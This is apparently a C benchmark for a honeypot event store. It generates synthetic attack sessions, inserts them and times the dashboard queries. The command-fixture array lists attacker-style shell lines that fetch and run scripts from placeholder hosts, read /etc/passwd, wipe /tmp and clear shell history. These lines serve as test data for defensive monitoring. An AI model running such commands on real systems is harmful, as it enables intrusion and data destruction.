/*
 * store_bench: insert rate and dashboard query latency of the event store.
 *
 *   store_bench --store URL [--events N] [--batch N] [--days D]
 *               [--runs N] [--queries-only]
 *
 * Generates realistic traffic directly through the store API: sessions
 * from a Zipf-distributed population of source addresses (a heavy head,
 * a long tail), ~50 ports, a few honeypots and sensors, dozens of
 * countries, hundreds of ASNs, Zipf usernames and passwords, commands
 * and downloads, spread over the last D days (default 30) up to now.
 * Then times every dashboard query (median and max of --runs runs).
 * Only the ap_store_put_events calls are timed for the insert rate.
 */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <jansson.h>

#include "ap/event.h"
#include "ap/log.h"
#include "ap/util.h"
#include "store.h"
#include "ap/common.h"

#define HOUR_US 3600000000LL

static unsigned long long rs = 0x9e3779b97f4a7c15ULL;

static unsigned long long
rnd64(void)
{
    rs ^= rs << 13;
    rs ^= rs >> 7;
    rs ^= rs << 17;
    return rs;
}

static double
unif(void)
{
    return (double)(rnd64() >> 11) / 9007199254740992.0;
}

struct zipf {
    double *cdf;
    size_t n;
};

static void
zipf_init(struct zipf *z, size_t n, double s)
{
    double sum = 0;
    size_t i;

    z->n = n;
    z->cdf = malloc(n * sizeof(*z->cdf));
    if (z->cdf == NULL)
        ap_fatal("out of memory");
    for (i = 0; i < n; i++)
        z->cdf[i] = sum += 1.0 / pow((double)(i + 1), s);
    for (i = 0; i < n; i++)
        z->cdf[i] /= sum;
}

static size_t
zipf(const struct zipf *z)
{
    double u = unif();
    size_t lo = 0, hi = z->n - 1;

    while (lo < hi) {
        size_t mid = (lo + hi) / 2;
        if (z->cdf[mid] < u)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}

static struct zipf z_ip, z_user, z_pass, z_cmd, z_port, z_country;

static const char *const honeypots[] = {"ssh", "telnet", "dionaea", "http",
                                        "conpot"};
static const char *const sensors[] = {"sensor-fra-1", "sensor-nyc-1",
                                      "sensor-sgp-1", "sensor-syd-1",
                                      "sensor-gru-1", "sensor-ams-2"};
static const int port_list[] = {
    445,  22,   23,   80,   1433, 3306, 8080, 21,    25,   135,
    139,  443,  3389, 5060, 1900, 502,  102,  161,   2222, 2323,
    8443, 8888, 5900, 6379, 9200, 27017, 11211, 5432, 1723, 110,
    143,  993,  995,  53,   123,  69,   8000, 8081,  9000, 10000,
    47808, 20000, 44818, 1883, 5683, 37777, 7547, 81, 88, 8291};
static const char *const cmd_list[] = {
    "uname -a", "cat /proc/cpuinfo", "free -m", "w", "ls -la",
    "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "echo -e \"\\x41\"",
    "cat /etc/passwd", "ps aux", "crontab -l", "nproc", "id",
    "busybox wget http://203.0.113.9/bins.sh", "history -c", "uptime",
    "chmod +x .x; ./.x", "rm -rf /tmp/*", "lscpu | grep Model", "df -h",
    "whoami"};

static void
name_of(char *out, size_t len, const char *pre, size_t i)
{
    static const char *const common[] = {"root", "admin", "123456", "password",
                                         "user", "test", "ubuntu", "guest",
                                         "support", "oracle"};

    if (i < AP_ARRAY_SIZE(common))
        snprintf(out, len, "%s", common[i]);
    else
        snprintf(out, len, "%s%zu", pre, i);
}

static void
ip_of(char *out, size_t len, size_t i)
{
    unsigned long long h = (i + 1) * 0x9e3779b97f4a7c15ULL;

    snprintf(out, len, "%u.%u.%u.%u", (unsigned)(1 + (h >> 56) % 223),
             (unsigned)((h >> 48) & 255), (unsigned)((h >> 40) & 255),
             (unsigned)(1 + ((h >> 32) % 254)));
}

struct gen {
    long long t, step; /* session start time, and its increment */
    json_t **evs;
    size_t n, cap;
    unsigned long long sess;
};

static void
push(struct gen *g, json_t *ev)
{
    if (ev == NULL)
        ap_fatal("out of memory");
    g->evs[g->n++] = ev;
}

/* One session's events appended to g. */
static void
gen_session(struct gen *g)
{
    char ip[48], user[32], pass[32], sid[24], country[3];
    size_t ipi = zipf(&z_ip), hp = rnd64() % AP_ARRAY_SIZE(honeypots), k, nl;
    const char *sensor = sensors[rnd64() % AP_ARRAY_SIZE(sensors)];
    long long ts = g->t;
    int port, success = 0;
    json_t *ev;

    ip_of(ip, sizeof(ip), ipi);
    country[0] = (char)('A' + (ipi * 7 + zipf(&z_country)) % 26);
    country[1] = (char)('A' + (ipi * 13 + zipf(&z_country)) % 26);
    country[2] = '\0';
    snprintf(sid, sizeof(sid), "%012llx", g->sess++);
    port = hp == 0 ? 22 : hp == 1 ? 23 : hp == 3 ? 80 : hp == 4 ? 502
                                     : port_list[zipf(&z_port)];

#define COMMON(e)                                                              \
    do {                                                                       \
        ap_event_set_addr(e, ip, 1024 + (int)(rnd64() % 60000),                \
                          "192.0.2.10", port);                                 \
        ap_event_set_str(e, "session", sid);                                   \
        ap_event_set_str(e, "src_country", country);                           \
        ap_event_set_int(e, "src_asn", (long long)(1000 + ipi % 700));          \
        ap_event_set_str(e, "protocol", honeypots[hp]);                        \
        ap_event_set_str(e, "transport", "tcp");                               \
    } while (0)

    ev = ap_event_new(AP_EV_CONNECT, sensor, honeypots[hp], ts);
    COMMON(ev);
    push(g, ev);
    if (hp <= 1) {
        nl = 1 + rnd64() % 4;
        for (k = 0; k < nl && g->n < g->cap - 8; k++) {
            name_of(user, sizeof(user), "u", zipf(&z_user));
            name_of(pass, sizeof(pass), "p", zipf(&z_pass));
            success = rnd64() % 10 == 0;
            ev = ap_event_new(AP_EV_LOGIN, sensor, honeypots[hp],
                              ts += 1000000);
            COMMON(ev);
            ap_event_set_str(ev, "username", user);
            ap_event_set_str(ev, "password", pass);
            ap_event_set_bool(ev, "success", success);
            push(g, ev);
            if (success)
                break;
        }
        for (k = 0; success && k < 3 && g->n < g->cap - 4; k++) {
            ev = ap_event_new(AP_EV_COMMAND, sensor, honeypots[hp],
                              ts += 2000000);
            COMMON(ev);
            ap_event_set_str(ev, "command", cmd_list[zipf(&z_cmd)]);
            push(g, ev);
        }
    }
    if (rnd64() % 50 == 0 && g->n < g->cap - 3) {
        char url[96], sha[65];
        unsigned long long f = rnd64() % 300;

        snprintf(url, sizeof(url), "http://198.51.100.%llu/bins/x%llu",
                 f % 250, f);
        snprintf(sha, sizeof(sha), "%064llx", f * 0x9e3779b97f4a7c15ULL);
        ev = ap_event_new(AP_EV_DOWNLOAD, sensor, honeypots[hp],
                          ts += 1000000);
        COMMON(ev);
        ap_event_set_str(ev, "url", url);
        ap_event_set_str(ev, "sha256", sha);
        ap_event_set_int(ev, "size", 40000 + (long long)f);
        push(g, ev);
    }
    if (rnd64() % 40 == 0 && g->n < g->cap - 2) {
        ev = ap_event_new(AP_EV_ALERT, sensor, honeypots[hp], ts += 1000);
        COMMON(ev);
        ap_event_set_str(ev, "signature", rnd64() % 2
                                              ? "ET SCAN Potential SSH Scan"
                                              : "ET EXPLOIT MS17-010");
        ap_event_set_int(ev, "severity", 2);
        push(g, ev);
    }
    ev = ap_event_new(AP_EV_DISCONNECT, sensor, honeypots[hp], ts + 500000);
    COMMON(ev);
    ap_event_set_real(ev, "duration", 3.5);
    push(g, ev);
    g->t += g->step;
#undef COMMON
}

static double
now_s(void)
{
    return (double)ap_mono_us() / 1e6;
}

static double
cpu_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int
cmp_dbl(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

#define MAX_RUNS 50

/* Time one query; prints "name median max rows". */
#define TIME_Q(name, call)                                                     \
    do {                                                                       \
        double t_[MAX_RUNS], a_;                                               \
        int r_, rc_ = 0;                                                       \
        size_t rows_ = 0;                                                      \
        for (r_ = 0; r_ < runs; r_++) {                                        \
            json_t *out = NULL;                                                \
            a_ = now_s();                                                      \
            rc_ = (call);                                                      \
            t_[r_] = (now_s() - a_) * 1000;                                    \
            rows_ = json_is_array(out) ? json_array_size(out) : 1;            \
            json_decref(out);                                                  \
            if (rc_ != 0)                                                      \
                break;                                                         \
        }                                                                      \
        if (rc_ != 0) {                                                        \
            printf("%-34s error %d\n", name, rc_);                             \
            failures++;                                                        \
            break;                                                             \
        }                                                                      \
        qsort(t_, (size_t)runs, sizeof(double), cmp_dbl);                      \
        printf("%-34s %9.2f ms %9.2f ms %6zu rows\n", name, t_[runs / 2],     \
               t_[runs - 1], rows_);                                           \
        if (t_[runs / 2] > worst)                                              \
            worst = t_[runs / 2];                                              \
    } while (0)

static int
run_queries(struct ap_store *st, int runs)
{
    static const char *const dims[] = {
        "src_ip", "dst_port", "honeypot", "sensor", "src_country", "src_asn",
        "protocol", "username", "password", "credential", "command", "url",
        "sha256", "signature", "type"};
    struct ap_filter day, all, f;
    char head_ip[48], tail_ip[48], name[64];
    json_t *tmp;
    long long cnt;
    double worst = 0;
    int failures = 0;
    size_t i;

    memset(&all, 0, sizeof(all));
    memset(&day, 0, sizeof(day));
    day.since_us = ap_now_us() - 24 * HOUR_US;
    ip_of(head_ip, sizeof(head_ip), 0);
    ip_of(tail_ip, sizeof(tail_ip), 5000);
    printf("%-34s %12s %12s\n", "query", "median", "max");
    TIME_Q("count 24h", (ap_store_count(st, &day, &cnt),
                         out = json_integer(cnt), 0));
    TIME_Q("count all", (ap_store_count(st, &all, &cnt),
                         out = json_integer(cnt), 0));
    TIME_Q("timeseries 24h by hour",
           ap_store_timeseries(st, &day, HOUR_US, &out));
    TIME_Q("timeseries 30d by day",
           (f = all, f.since_us = ap_now_us() - 30 * 24 * HOUR_US,
            ap_store_timeseries(st, &f, 24 * HOUR_US, &out)));
    for (i = 0; i < AP_ARRAY_SIZE(dims); i++) {
        snprintf(name, sizeof(name), "top %s 24h", dims[i]);
        TIME_Q(name, ap_store_top(st, dims[i], &day, 10, &out));
    }
    TIME_Q("top src_ip 7d",
           (f = all, f.since_us = ap_now_us() - 7 * 24 * HOUR_US,
            ap_store_top(st, "src_ip", &f, 10, &out)));
    TIME_Q("top src_ip 30d",
           (f = all, f.since_us = ap_now_us() - 30 * 24 * HOUR_US,
            ap_store_top(st, "src_ip", &f, 10, &out)));
    for (i = 1; i < 6; i++) {
        snprintf(name, sizeof(name), "top %s 30d", dims[i]);
        TIME_Q(name, (f = all, f.since_us = ap_now_us() - 30 * 24 * HOUR_US,
                      ap_store_top(st, dims[i], &f, 10, &out)));
    }
    TIME_Q("top signature 30d",
           (f = all, f.since_us = ap_now_us() - 30 * 24 * HOUR_US,
            ap_store_top(st, "signature", &f, 10, &out)));
    TIME_Q("credentials 7d",
           (f = all, f.since_us = ap_now_us() - 7 * 24 * HOUR_US,
            ap_store_credentials(st, &f, 25, &out)));
    TIME_Q("top credential all time",
           ap_store_top(st, "credential", &all, 10, &out));
    TIME_Q("events latest 100", ap_store_events(st, &all, 100, 0, 0, &out));
    TIME_Q("events of head ip",
           (f = all, f.src_ip = head_ip,
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("events of tail ip",
           (f = all, f.src_ip = tail_ip,
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("count of head ip",
           (f = all, f.src_ip = head_ip, ap_store_count(st, &f, &cnt),
            out = json_integer(cnt), 0));
    TIME_Q("search port 3306 24h",
           (f = day, f.dst_port = 3306,
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search country 24h",
           (f = day, f.src_country = "CN",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search username root",
           (f = all, f.username = "root",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search password u2",
           (f = all, f.password = "p2",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search command", (f = all, f.command = "uname -a",
                              ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search url",
           (f = all, f.url = "http://198.51.100.7/bins/x7",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search sensor+honeypot 24h",
           (f = day, f.sensor = sensors[0], f.honeypot = "ssh",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search honeypot+type, none, all",
           (f = all, f.honeypot = "conpot", f.type = "login",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("search sensor+type all",
           (f = all, f.sensor = sensors[1], f.type = "download",
            ap_store_events(st, &f, 100, 0, 0, &out)));
    TIME_Q("count sensor+type all",
           (f = all, f.sensor = sensors[1], f.type = "download",
            ap_store_count(st, &f, &cnt), out = json_integer(cnt), 0));
    TIME_Q("count sensor+honeypot all",
           (f = all, f.sensor = sensors[0], f.honeypot = "ssh",
            ap_store_count(st, &f, &cnt), out = json_integer(cnt), 0));
    TIME_Q("top username for honeypot 24h",
           (f = day, f.honeypot = "telnet",
            ap_store_top(st, "username", &f, 10, &out)));
    TIME_Q("sessions latest", ap_store_sessions(st, &all, 100, 0, &out));
    TIME_Q("sessions of head ip",
           (f = all, f.src_ip = head_ip,
            ap_store_sessions(st, &f, 100, 0, &out)));
    if (ap_store_sessions(st, &all, 1, 0, &tmp) == 0 &&
        json_array_size(tmp) == 1) {
        json_t *s0 = json_array_get(tmp, 0);
        const char *sen = json_string_value(json_object_get(s0, "sensor")),
                   *sid = json_string_value(json_object_get(s0, "session"));
        TIME_Q("session timeline", ap_store_session(st, sen, sid, &out));
    }
    json_decref(tmp);
    TIME_Q("profile head ip", ap_store_profile(st, head_ip, &out));
    TIME_Q("profile tail ip", ap_store_profile(st, tail_ip, &out));
    TIME_Q("credentials 24h", ap_store_credentials(st, &day, 10, &out));
    TIME_Q("files latest", ap_store_files(st, &all, 100, 0, &out));
    TIME_Q("raw errors", ap_store_raw_errors(st, &out));
    printf("worst median: %.2f ms\n", worst);
    return failures;
}

int
main(int argc, char **argv)
{
    const char *url = NULL;
    long long nev = 100000, batch = 1000, days = 30;
    int runs = 5, queries_only = 0, i;
    struct ap_store *st;
    struct gen g;
    char err[512];
    double put_s = 0, gen_s = 0, cpu = 0, a, c;
    size_t total = 0, ins, k;

    for (i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--store") == 0 && i + 1 < argc)
            url = argv[++i];
        else if (strcmp(argv[i], "--events") == 0 && i + 1 < argc)
            nev = strtoll(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--batch") == 0 && i + 1 < argc)
            batch = strtoll(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--days") == 0 && i + 1 < argc)
            days = strtoll(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--runs") == 0 && i + 1 < argc)
            runs = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--queries-only") == 0)
            queries_only = 1;
        else {
            fprintf(stderr, "usage: store_bench --store URL [--events N] "
                            "[--batch N] [--days D] [--runs N] "
                            "[--queries-only]\n");
            return 2;
        }
    }
    if (url == NULL || nev < 1 || batch < 1 || days < 1 || runs < 1 ||
        runs > MAX_RUNS) {
        fprintf(stderr, "store_bench: --store URL is required; N > 0\n");
        return 2;
    }
    ap_log_set_level(AP_LOG_WARN);
    if (ap_store_open(url, &st, err, sizeof(err)) != 0) {
        fprintf(stderr, "store_bench: %s\n", err);
        return 1;
    }
    printf("engine: %s\n", ap_store_engine_name(st));
    if (!queries_only) {
        zipf_init(&z_ip, 1000000, 1.05);
        zipf_init(&z_user, 2000, 1.1);
        zipf_init(&z_pass, 20000, 1.05);
        zipf_init(&z_cmd, AP_ARRAY_SIZE(cmd_list), 1.0);
        zipf_init(&z_port, AP_ARRAY_SIZE(port_list), 1.0);
        zipf_init(&z_country, 3, 1.0);
        memset(&g, 0, sizeof(g));
        g.cap = (size_t)batch + 16;
        g.evs = calloc(g.cap, sizeof(*g.evs));
        /* ~3.2 events per session on average. */
        g.step = days * 24 * HOUR_US * 32 / (nev * 10);
        g.t = ap_now_us() - days * 24 * HOUR_US;
        while (total < (size_t)nev) {
            a = now_s();
            g.n = 0;
            while (g.n < (size_t)batch && g.n < g.cap - 16 &&
                   total + g.n < (size_t)nev)
                gen_session(&g);
            gen_s += now_s() - a;
            a = now_s();
            c = cpu_s();
            if (ap_store_put_events(st, g.evs, g.n, &ins) != 0) {
                fprintf(stderr, "store_bench: put failed\n");
                return 1;
            }
            put_s += now_s() - a;
            cpu += cpu_s() - c;
            total += g.n;
            for (k = 0; k < g.n; k++)
                json_decref(g.evs[k]);
            if (total % 1000000 < (size_t)batch + 16)
                fprintf(stderr, "  %zu events, %.0f/s\n", total,
                        (double)total / put_s);
        }
        printf("inserted %zu events in %.2f s: %.0f events/s wall; "
               "client CPU %.2f s: %.0f events/s per core "
               "(generation %.2f s, not counted)\n",
               total, put_s, (double)total / put_s, cpu,
               (double)total / cpu, gen_s);
        free(g.evs);
    }
    {
        /* What the server's store thread does in the background: build
         * the cached top lists of closed hours and days. */
        int more = 1, built = 0;
        double a0 = now_s(), c0 = cpu_s();

        while (more && ap_store_maintain(st, ap_now_us(), 1000, &more) == 0)
            built++;
        printf("upkeep (cached top lists): %.2f s wall, %.2f s CPU\n",
               now_s() - a0, cpu_s() - c0);
    }
    i = run_queries(st, runs);
    ap_store_close(st);
    return i ? 1 : 0;
}
